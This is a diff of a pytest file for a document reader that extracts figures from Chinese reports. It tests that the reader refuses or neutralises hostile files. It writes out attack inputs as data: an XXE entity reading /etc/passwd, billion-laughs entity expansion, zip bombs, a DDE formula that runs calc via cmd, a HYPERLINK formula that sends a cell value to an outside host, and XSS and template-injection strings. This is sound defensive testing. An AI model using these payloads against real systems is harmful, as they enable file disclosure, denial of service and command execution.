@@ -13,10 +13,14 @@ from decimal import Decimal
 from pathlib import Path
 
 import pytest
+import xlsxwriter
 from docx import Document
 
+from hall.model import HallError, Reading
 from hall.paths import ROOT
-from hall.reading.extract import read_text
+from hall.reading.extract import read_file, read_text
+from hall.reading.sandbox import Reader
+from hall.text import sentences
 
 GOOD = (ROOT / "tests/golden/sample/month-2025-03.txt").read_text(encoding="utf-8")
 
@@ -29,29 +33,45 @@ def zipped(**parts: bytes) -> bytes:
     return out.getvalue()
 
 
-def docx(body: str, head: str = "") -> bytes:
+def changed(whole: bytes, part: str, content: str, encoding: str = "utf-8") -> bytes:
+    """An office document with another content of one of its parts."""
+    out = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(whole)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
+        for name in old.namelist():
+            new.writestr(name, content.encode(encoding) if name == part else old.read(name))
+    return out.getvalue()
+
+
+def docx(body: str, head: str = "", encoding: str = "utf-8") -> bytes:
     out = io.BytesIO()
     Document().save(out)
-    whole = zipfile.ZipFile(io.BytesIO(out.getvalue()))
-    parts = {name: whole.read(name) for name in whole.namelist()}
     space = "http" + "://schemas.openxmlformats.org/wordprocessingml/2006/main"
-    parts["word/document.xml"] = (
-        f'<?xml version="1.0"?>{head}<w:document xmlns:w="{space}"><w:body><w:p><w:r><w:t>{body}</w:t></w:r></w:p>'
-        "</w:body></w:document>"
-    ).encode()
-    again = io.BytesIO()
-    with zipfile.ZipFile(again, "w", zipfile.ZIP_DEFLATED) as book:
-        for name, content in parts.items():
-            book.writestr(name, content)
-    return again.getvalue()
+    content = (
+        f'<?xml version="1.0" encoding="{encoding}"?>{head}<w:document xmlns:w="{space}"><w:body><w:p><w:r>'
+        f"<w:t>{body}</w:t></w:r></w:p></w:body></w:document>"
+    )
+    return changed(out.getvalue(), "word/document.xml", content, encoding)
 
 
-def laughs() -> bytes:
+def xlsx(cell: str, behind: str = "", head: str = "") -> bytes:
+    out = io.BytesIO()
+    book = xlsxwriter.Workbook(out, {"in_memory": True})
+    book.add_worksheet("a")
+    book.close()
+    space = "http" + "://schemas.openxmlformats.org/spreadsheetml/2006/main"
+    content = (
+        f'<?xml version="1.0"?>{head}<worksheet xmlns="{space}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is>'
+        f"<t>{cell}</t></is></c></row></sheetData>{behind}</worksheet>"
+    )
+    return changed(out.getvalue(), "xl/worksheets/sheet1.xml", content)
+
+
+def laughs() -> str:
     names = "abcdefghij"
     head = "<!DOCTYPE w [<!ENTITY a 'ha'>" + "".join(
         f"<!ENTITY {b} '{f'&{a};' * 10}'>" for a, b in itertools.pairwise(names)
     )
-    return docx("&j;", head + "]>")
+    return head + "]>"
 
 
 def pdf(pages: int = 1, stream: bytes = b"", extra: str = "", filters: str = "") -> bytes:
@@ -97,7 +117,7 @@ def bomb(name: str) -> bytes:
 HOSTILE: dict[str, tuple[str, Callable[[], bytes]]] = {
     "zip bomb as Word": ("a.docx", lambda: bomb("word")),
     "zip bomb as workbook": ("a.xlsx", lambda: bomb("xl")),
-    "entities that multiply": ("a.docx", laughs),
+    "entities that multiply": ("a.docx", lambda: docx("&j;", laughs())),
     "ten thousand pages": ("a.pdf", lambda: pdf(pages=10_000)),
     "locked with a password": ("a.pdf", locked),
     "thirty thousand pixels square": ("a.png", huge_png),
@@ -124,14 +144,66 @@ def test_refused_with_one_sentence(name: str, tmp_path: Path) -> None:
     assert "Traceback" not in done.stderr
 
 
-def test_a_file_outside_is_never_fetched(tmp_path: Path) -> None:
-    secret = tmp_path / "secret.txt"
-    secret.write_text("受理77777件", encoding="utf-8")
-    path = tmp_path / "a.docx"
-    path.write_bytes(docx("受理5件 &x;", f"<!DOCTYPE w [<!ENTITY x SYSTEM 'file://{secret}'>]>"))
-    done = subprocess.run([sys.executable, "-m", "hall", "read", "--text", str(path)], cwd=ROOT, capture_output=True,
-                          text=True, timeout=60, check=False)  # fmt: skip
-    assert "77777" not in done.stdout + done.stderr
+# asked of one process in a row, since each of them must leave it fit for the next
+MORE: dict[str, tuple[str, Callable[[], bytes], str]] = {
+    "entities that multiply in a sheet": ("a.xlsx", lambda: xlsx("&j;", "", laughs()), "unsafe_inside"),
+    "an entity that names a file": (
+        "a.docx",
+        lambda: docx("受理5件 &x;", "<!DOCTYPE w [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>"),
+        "unsafe_inside",
+    ),
+    "an entity in another encoding": (
+        "a.docx",
+        lambda: docx("受理&x;件", "<!DOCTYPE w [<!ENTITY x '77'>]>", "utf-16"),
+        "unsafe_inside",
+    ),
+    "a cell over the whole sheet": (
+        "a.xlsx",
+        lambda: xlsx("5", '<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>'),
+        "unsafe_inside",
+    ),
+    "a cell over a hundred million columns": (
+        "a.docx",
+        lambda: docx(
+            "</w:t></w:r></w:p><w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val='100000000'/></w:tcPr><w:p/>"
+            "</w:tc></w:tr></w:tbl><w:p><w:r><w:t>"
+        ),
+        "unsafe_inside",
+    ),
+    "a locked Word document": (
+        "a.docx",
+        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600 + "EncryptedPackage".encode("utf-16-le"),
+        "encrypted",
+    ),
+    "a zip with its list cut off": ("a.docx", lambda: docx("受理5件")[:-40], "not_readable"),
+    "a picture cut off": ("a.png", lambda: huge_png()[:20], "not_readable"),
+    "pages that hold themselves": (
+        "a.pdf",
+        lambda: pdf().replace(b"/Kids[3 0 R]", b"/Kids[2 0 R]"),
+        "not_readable|empty_file|broken_inside",
+    ),
+    "a PDF that is a zip": ("a.pdf", lambda: docx("受理5件"), "wrong_type"),
+    "a text that is a PDF": ("a.txt", pdf, "wrong_type"),
+    "a picture that is a page": ("a.png", lambda: b"<html>" * 99, "wrong_type|not_readable"),
+}
+
+
+def test_one_process_refuses_them_all_and_goes_on(tmp_path: Path) -> None:
+    good = tmp_path / "good.txt"
+    good.write_text(GOOD, encoding="utf-8")
+    with Reader() as reader:
+        first = reader.read(good)
+        for name, (file, make, codes) in MORE.items():
+            path = tmp_path / file
+            path.write_bytes(make())
+            with pytest.raises(HallError) as fault:
+                reader.read(path)
+            assert fault.value.code in codes.split("|"), f"{name}: {fault.value.code}"
+            for lang in ("zh", "en"):
+                said = sentences.fault(fault.value, lang)  # type: ignore[arg-type]
+                assert file in said
+                assert "\n" not in said
+        assert reader.read(good) == first
 
 
 def test_a_stream_that_swells_stays_within_the_limits(tmp_path: Path) -> None:
@@ -156,6 +228,40 @@ def test_marks_that_nobody_sees_hold_the_number_they_stand_in(mark: str) -> None
     found = [f for f in read_text(text).figures if f.metric == "onsite_consultations"]
     assert [f.status for f in found] in ([], ["U"])
     assert {f.value for f in found} <= {Decimal(4796)}
+
+
+PLAIN = {
+    "script": "<script>alert(1)</script><img src=x onerror=alert(2)>受理5件",
+    "formula": '=HYPERLINK("http:" & "//example.invalid/?a="&A1,"受理5件")',
+    "marks": ":red[受理] $x^2$ **5件** ![图](http:x) [a](javascript:b) :material/delete:",
+    "template": "{{ 7*7 }} ${7*7} {% raw %} %(n)s {0} 受理5件",
+    "terminal": "受理5件\x1b[2J",
+}
+
+
+@pytest.mark.parametrize("name", PLAIN)
+def test_marks_of_programs_are_words(name: str, tmp_path: Path) -> None:
+    path = tmp_path / "a.txt"
+    path.write_text(f"{GOOD}\n\n{PLAIN[name]}\n", encoding="utf-8")
+    reading = read_file(path)
+    assert reading.text.endswith(f"{PLAIN[name]}\n")
+    sound(reading)
+    assert {o.obs_value for o in reading.observations} == {o.obs_value for o in read_text(GOOD).observations}
+    assert not [f for f in reading.figures if f.value == 49]
+
+
+def test_formulas_in_cells_are_shown_not_run(tmp_path: Path) -> None:
+    path = tmp_path / "a.csv"
+    path.write_text("部门,受理（件）\n公安厅,=1+1\n税务局,\"=cmd|'/c calc'!A1\"\n财政厅,7\n", encoding="utf-8")
+    reading = read_file(path)
+    sound(reading)
+    assert 2 not in {f.value for f in reading.figures}
+    assert 7 in {f.value for f in reading.figures}
+
+
+def sound(reading: Reading) -> None:
+    for found in (*reading.figures, *reading.activities):
+        assert reading.text[found.start : found.end] == found.quote
 
 
 def test_deep_and_wide_pages_are_read_in_time(tmp_path: Path) -> None:
